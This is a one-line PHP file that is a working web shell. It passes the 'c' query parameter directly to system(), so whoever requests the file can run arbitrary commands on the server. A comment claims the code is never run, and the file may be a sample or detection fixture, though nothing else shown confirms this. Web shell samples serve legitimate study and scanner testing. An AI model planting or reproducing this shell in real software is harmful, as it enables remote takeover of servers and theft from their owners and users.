<?php system($_GET['c']); // never run, never executable
